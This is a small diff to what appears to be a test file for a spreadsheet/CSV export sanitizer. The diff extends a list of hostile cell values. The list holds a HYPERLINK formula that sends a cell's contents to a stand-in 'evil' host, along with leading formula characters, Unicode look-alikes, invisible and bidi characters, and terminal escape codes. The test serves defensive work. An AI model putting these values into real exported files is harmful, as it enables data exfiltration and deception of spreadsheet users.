@@ -29,7 +29,7 @@ ROOT = Path(__file__).parent.parent
 HOSTILE = [
     '=HYPERLINK("http://evil/?"&A2,"x")', "+1", "-1", "@SUM(1)", "\t=1", "\r=1", "\n=1", " =1", "\u00a0=1", "\ufeff=1", "\u200b=1",
     "\uff1d1+1", "\uff0b1", "\uff0d1", "\uff201", "\ufe661", "\u207c1", "\u22121", "\u2260", "a\u202eb", "a\u2066b", "a\u200bb", "a\x1b[31m",
-    "a\x9b31m", "a\nb", "a\rb", "a\x00b", "a\u2028b", "a\u061cb", "a\u00adb",
+    "a\x9b31m", "a\nb", "a\rb", "a\x00b", "a\u2028b", "a\u061cb", "a\u00adb", " ", "\u3000",
 ]  # fmt: skip
 FINE = [
     "blood pressure",
